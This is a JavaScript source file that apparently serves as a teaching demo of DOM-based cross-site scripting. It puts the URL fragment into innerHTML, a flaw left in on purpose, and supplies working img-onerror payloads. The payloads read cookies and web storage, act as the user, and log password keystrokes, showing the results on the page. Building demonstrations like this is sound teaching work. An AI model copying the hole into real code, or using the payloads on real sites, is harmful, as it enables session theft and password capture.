// The hole, and scripts to try it with. What follows #greeting= in the address becomes part of the page, as HTML.

/** Each runs as it stands, and shows what it got instead of sending it away. */
const examples = {
  'A harmless greeting': 'Hello, <b>you</b>',
  'A script that reads': run(`
    const loot = { cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage } };
    greeting.textContent = 'A script could send this away: ' + JSON.stringify(loot)`),
  'A script that acts as you': run(`
    me.click();
    greeting.textContent = 'A script has just asked who you are. The answer is above, and it was free to read it.'`),
  'A script that waits for your password': run(`
    greeting.textContent = 'Type a password above';
    password.oninput = () => { greeting.textContent = 'So far: ' + password.value }`),
};

/** Markup that runs a script. Setting innerHTML runs no <script>, but the handler of an image that cannot be loaded. */
function run(script) {
  return `<img src="" onerror="${script.trim().replace(/\s+/g, ' ')}">`;
}

const element = (id) => document.getElementById(id);
const toFragment = (markup) => `#greeting=${encodeURIComponent(markup)}`;

export function openHole() {
  element('examples').append(
    ...Object.entries(examples).map(([name, markup]) => {
      const link = Object.assign(document.createElement('a'), {
        href: toFragment(markup),
        textContent: name,
      });
      const item = document.createElement('li');
      item.append(link);
      return item;
    }),
  );
  element('inject').onclick = () => {
    location.hash = toFragment(element('markup').value);
  };
  addEventListener('hashchange', greet);
  greet();
}

function greet() {
  const markup = new URLSearchParams(location.hash.slice(1)).get('greeting') ?? '';
  element('markup').value = markup;
  element('greeting').innerHTML = markup; // the hole
}
